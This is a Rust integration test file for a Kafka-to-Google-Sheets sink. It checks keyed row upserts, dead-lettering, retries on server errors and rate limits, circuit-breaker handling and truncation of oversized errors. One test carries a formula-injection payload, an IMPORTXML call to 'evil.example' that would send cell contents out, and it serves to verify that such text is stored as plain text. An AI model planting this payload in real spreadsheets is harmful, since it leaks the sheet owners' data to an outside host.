//! sheets-sink against real Kafka and the sandbox over HTTP: row upserts by
//! key (one row per key, latest values), redelivery adding no row, a refused
//! command dead-lettered while the rest flow, 500s and 429s retried; every
//! outcome on the audit trail.
// Helpers fail the test by panicking, as assertions do.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::time::Duration;

use common::{
    Tuning, WAIT, audited, command, faults, grid, id, request_log, sandbox, send, send_to, start,
    start_with,
};
use serde_json::{Value, json};
use sluice_avro::AvroCodec;
use sluice_contracts::types::DeadLetterClass;
use sluice_contracts::types::{AuditAction, AuditRecord, DeadLetter, SheetRowUpsert};
use sluice_resilience::{FailureRate, RetryPolicy};
use sluice_testkit::{Stack, TestTopic, consume_exactly, eventually};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rows_upsert_by_key_and_a_refused_command_is_dead_lettered() {
    let (base, key) = sandbox().await;
    let topic = TestTopic::with_schema_of("sheets.rows.v1", "sheets-sink", 1).await;
    let dlq = TestTopic::with_schema_of("dlq.sheets-sink.v1", "sheets-sink-dlq", 1).await;
    faults(&base, json!({"reject_value": "poison"})).await;
    let stop = start(&base, &key, &topic.name, &dlq.name);
    let first = command(&id(901), "o-1", "19.50", None);
    send(
        &topic.name,
        &[
            first.clone(),
            command(&id(902), "o-2", "5.00", None),
            command(&id(903), "o-1", "21.00", Some("SHIPPED")),
            command(&id(904), "o-3", "poison", None),
            command(&id(905), "o-4", "1.00", None),
            // Redelivered: the same command again adds no row.
            command(&id(902), "o-2", "5.00", None),
        ],
    )
    .await;
    let letters = consume_exactly(&dlq.name, 1, WAIT).await;
    let expected = vec![
        vec![json!("Order"), json!("Total"), json!("Status")],
        vec![json!("o-1"), json!("21.00"), json!("SHIPPED")],
        vec![json!("o-2"), json!("5.00")],
        vec![json!("o-4"), json!("1.00")],
    ];
    eventually("the rows", WAIT, || {
        let base = &base;
        let expected = &expected;
        async move { (grid(base).await == *expected).then_some(()) }
    })
    .await;
    let letter: DeadLetter = AvroCodec::new(Stack::get().registry_settings())
        .decode(rdkafka::Message::payload(&letters[0]).unwrap())
        .await
        .unwrap();
    assert!(
        letter.error_message.contains("HTTP 400") && letter.error_message.contains("poison"),
        "{}",
        letter.error_message
    );

    // The audit trail: every command's outcome, the redelivered one twice,
    // the refused one with why (ids apart from the other tests' here,
    // which share the binary's audit topic). Applied rows are recorded a
    // record per spreadsheet and write, listing them; a refused command in
    // a record of its own.
    let ids: Vec<String> = (901..=905).map(id).collect();
    let trail = eventually("every outcome audited", WAIT, || {
        let ids = &ids;
        async move {
            let trail = audited(ids).await;
            let entries: Vec<AuditRecord> = trail
                .iter()
                .cloned()
                .flat_map(AuditRecord::entries)
                .collect();
            let twice = entries
                .iter()
                .filter(|r| r.command_id == Some(id(902)))
                .count();
            (ids.iter()
                .all(|i| entries.iter().any(|r| r.command_id.as_ref() == Some(i)))
                && twice >= 2)
                .then_some(trail)
        }
    })
    .await;
    for record in &trail {
        assert_eq!(record.action, AuditAction::SheetRowWrite);
        assert_eq!(record.actor, "sheets-sink@test");
        match record.outcome.as_str() {
            "APPLIED" => {
                assert_eq!(record.subject, "s1", "{record:?}");
                assert!(record.rows.as_ref().is_some_and(|rows| !rows.is_empty()));
                assert_eq!(record.command_id, None, "{record:?}");
            }
            _ => assert_eq!(record.rows, None, "{record:?}"),
        }
    }
    for entry in trail.into_iter().flat_map(AuditRecord::entries) {
        let command_id = entry.command_id.clone().unwrap();
        assert_eq!(entry.source_event_id.as_ref(), Some(&command_id));
        let (row, outcome) = match command_id[24..].parse::<u32>().unwrap() {
            901 | 903 => ("o-1", "APPLIED"),
            902 => ("o-2", "APPLIED"),
            904 => ("o-3", "REJECTED"),
            _ => ("o-4", "APPLIED"),
        };
        assert_eq!(entry.subject, format!("s1/Orders/{row}"));
        assert_eq!(entry.outcome, outcome, "{entry:?}");
        if outcome == "REJECTED" {
            assert!(
                entry
                    .detail
                    .as_deref()
                    .is_some_and(|d| d.contains("poison")),
                "{entry:?}"
            );
        }
    }
    stop.send(()).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_errors_and_429s_are_retried_without_a_duplicate_row() {
    let (base, key) = sandbox().await;
    let topic = TestTopic::with_schema_of("sheets.rows.v1", "sheets-sink-faults", 1).await;
    let dlq = TestTopic::with_schema_of("dlq.sheets-sink.v1", "sheets-sink-faults-dlq", 1).await;
    faults(
        &base,
        json!({"error_rates": {"500": 0.3}, "burst_429": 3, "retry_after_secs": 1}),
    )
    .await;
    // One command per request: enough requests for the faults to hit
    // (a batch of 60 would be a handful).
    let stop = start_with(&base, &key, &topic.name, &dlq.name, {
        // An attempt is one to three requests (the key index is read
        // again after a failure), so at 30 % a third of the attempts
        // fail or more: 8 retries would run out for one command in
        // about 12 runs. 20 leave that to chance no more.
        let quick = Tuning::quick();
        Tuning {
            max_batch: 1,
            retry: RetryPolicy {
                max_retries: 20,
                ..quick.retry
            },
            ..quick
        }
    });
    // 60 commands over 10 keys; the last for each key carries its round.
    let commands: Vec<SheetRowUpsert> = (0..60u32)
        .map(|n| {
            command(
                &id(100 + n),
                &format!("k-{}", n % 10),
                &format!("round {}", n / 10),
                None,
            )
        })
        .collect();
    send(&topic.name, &commands).await;
    let rows = eventually("every key's last value", WAIT, || {
        let base = &base;
        async move {
            let rows = grid(base).await;
            let done = rows.len() == 11
                && rows
                    .iter()
                    .skip(1)
                    .all(|row| row.get(1) == Some(&json!("round 5")));
            done.then_some(rows)
        }
    })
    .await;
    let keys: std::collections::BTreeSet<String> =
        rows.iter().skip(1).map(|row| row[0].to_string()).collect();
    assert_eq!(keys.len(), 10, "one row per key");
    let statuses: Vec<i64> = request_log(&base)
        .await
        .iter()
        .map(|r| r["status"].as_i64().unwrap())
        .collect();
    assert!(
        statuses.contains(&500) && statuses.contains(&429),
        "the faults happened: {statuses:?}"
    );
    stop.send(()).unwrap();
    let letters = sluice_testkit::message_count(&dlq.name);
    assert_eq!(letters, 0, "nothing dead-lettered");
}

/// Poison that looks like an outage: a row Sheets fails on every time with
/// a 500 while it takes every other. Its own failures open the breaker
/// (half of the last four calls: a failing write after the key column's
/// read), and a hold must not give it its retries afresh: once they are
/// spent while other rows were written, its batch goes one by one, it is
/// dead-lettered as out of retries, and the row behind it is written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_row_failing_transiently_while_others_are_written_is_dead_lettered() {
    let (base, key) = sandbox().await;
    let topic = TestTopic::with_schema_of("sheets.rows.v1", "sheets-sink-poison", 2).await;
    let dlq = TestTopic::with_schema_of("dlq.sheets-sink.v1", "sheets-sink-poison-dlq", 1).await;
    faults(&base, json!({"fail_value": "FLAKY"})).await;
    let mut tuning = Tuning::quick();
    tuning.breaker.failure_rate = Some(FailureRate {
        threshold: 0.5,
        window: 4,
        minimum_calls: 4,
    });
    tuning.breaker.open_wait = Duration::from_millis(300);
    tuning.retry.max_retries = 5;
    let stop = start_with(&base, &key, &topic.name, &dlq.name, tuning);
    send_to(
        &topic.name,
        Some(0),
        &[
            command(&id(1), "o-P", "FLAKY", None),
            command(&id(2), "o-Q", "2.00", None),
        ],
    )
    .await;
    // Other rows keep coming on the other partition, a few a second, until
    // the poison is given up: they are the sign that Sheets works.
    let (letters, sent) = {
        let letter = consume_exactly(&dlq.name, 1, WAIT);
        tokio::pin!(letter);
        let mut sent = 0;
        loop {
            tokio::select! {
                letters = &mut letter => break (letters, sent),
                () = tokio::time::sleep(Duration::from_millis(250)) => {
                    sent += 1;
                    let good = command(&id(100 + sent), &format!("o-G{sent}"), "1.00", None);
                    send_to(&topic.name, Some(1), &[good]).await;
                }
            }
        }
    };
    let rows = eventually("every other row", WAIT, || {
        let base = &base;
        async move {
            let rows = grid(base).await;
            (rows.len() == 2 + sent as usize).then_some(rows)
        }
    })
    .await;
    stop.send(()).unwrap();

    let letter: DeadLetter = AvroCodec::new(Stack::get().registry_settings())
        .decode(rdkafka::Message::payload(&letters[0]).unwrap())
        .await
        .unwrap();
    assert_eq!(letter.error_class, DeadLetterClass::RetriesExhausted);
    assert!(
        letter.error_message.contains("HTTP 500"),
        "the row's own failure, not the breaker's: {}",
        letter.error_message
    );
    let keys: Vec<&Value> = rows.iter().skip(1).map(|row| &row[0]).collect();
    assert!(
        keys.contains(&&json!("o-Q")),
        "the partition moved on: {keys:?}"
    );
    assert!(!keys.contains(&&json!("o-P")), "{keys:?}");
}

/// Sheets refusing a row with megabytes of message: the dead letter and
/// the audit record carry it cut to size, and the rows behind it are
/// written (whole, Kafka refused the records as too large).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_with_megabytes_of_message_is_dead_lettered_cut_to_size() {
    let (base, key) = sandbox().await;
    let topic = TestTopic::with_schema_of("sheets.rows.v1", "sheets-sink-long-error", 1).await;
    let dlq =
        TestTopic::with_schema_of("dlq.sheets-sink.v1", "sheets-sink-long-error-dlq", 1).await;
    faults(
        &base,
        json!({"reject_value": "LONG", "error_message_bytes": 2_000_000}),
    )
    .await;
    let stop = start(&base, &key, &topic.name, &dlq.name);
    send(
        &topic.name,
        &[
            command(&id(951), "o-L", "LONG", None),
            command(&id(952), "o-M", "2.00", None),
        ],
    )
    .await;
    let letters = consume_exactly(&dlq.name, 1, WAIT).await;
    eventually("the row behind it", WAIT, || {
        let base = &base;
        async move {
            let rows = grid(base).await;
            rows.iter().any(|row| row[0] == json!("o-M")).then_some(())
        }
    })
    .await;
    let ids = [id(951)];
    let trail = eventually("the refusal audited", WAIT, || {
        let ids = &ids;
        async move {
            let trail = audited(ids).await;
            (!trail.is_empty()).then_some(trail)
        }
    })
    .await;
    stop.send(()).unwrap();

    let letter: DeadLetter = AvroCodec::new(Stack::get().registry_settings())
        .decode(rdkafka::Message::payload(&letters[0]).unwrap())
        .await
        .unwrap();
    assert!(
        letter.error_message.contains("HTTP 400"),
        "{}",
        &letter.error_message[..100]
    );
    assert!(
        letter.error_message.len() <= 8 * 1024,
        "{} bytes",
        letter.error_message.len()
    );
    let detail = trail[0].detail.clone().unwrap_or_default();
    assert!(
        detail.contains("bytes cut") && detail.len() <= 8 * 1024,
        "{} bytes",
        detail.len()
    );
}

/// A sheet written USER_ENTERED (`--user-entered s1/Orders`): Sheets takes
/// values as typed, so `19.50` lands a number; but a row key stays text
/// (`00123` is found again, and updated in place, not appended twice), and
/// text from an event that would be a formula stays text (an event's
/// `=IMPORTXML(…)` would send the sheet's data away).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_user_entered_sheet_types_values_but_keeps_keys_and_formulas_text() {
    let (base, key) = sandbox().await;
    let topic = TestTopic::with_schema_of("sheets.rows.v1", "sheets-sink-typed", 1).await;
    let dlq = TestTopic::with_schema_of("dlq.sheets-sink.v1", "sheets-sink-typed-dlq", 1).await;
    let tuning = Tuning {
        user_entered: vec!["s1/Orders".into()],
        ..Tuning::quick()
    };
    let stop = start_with(&base, &key, &topic.name, &dlq.name, tuning);
    let injection = "=IMPORTXML(\"https://evil.example/?\"&A1,\"//a\")";
    send(
        &topic.name,
        &[
            command(&id(961), "00123", "19.50", Some(injection)),
            command(&id(962), "-7", "-5", Some("'tis")),
        ],
    )
    .await;
    let rows_of = |rows: usize| {
        let base = base.clone();
        move || {
            let base = base.clone();
            async move {
                let grid = grid(&base).await;
                (grid.len() == rows).then_some(grid)
            }
        }
    };
    eventually("two rows", WAIT, rows_of(3)).await;
    send(&topic.name, &[command(&id(963), "00123", "21.00", None)]).await;
    let rows = eventually("the key's row updated", WAIT, || {
        let base = &base;
        async move {
            let rows = grid(base).await;
            rows.iter()
                .any(|row| row.get(1) == Some(&json!(21.0)))
                .then_some(rows)
        }
    })
    .await;
    stop.send(()).unwrap();

    assert_eq!(
        rows,
        vec![
            vec![json!("Order"), json!("Total"), json!("Status")],
            vec![json!("00123"), json!(21.0), json!(injection)],
            vec![json!("-7"), json!(-5.0), json!("'tis")],
        ],
        "keys and formulas text, values typed, one row per key"
    );
}
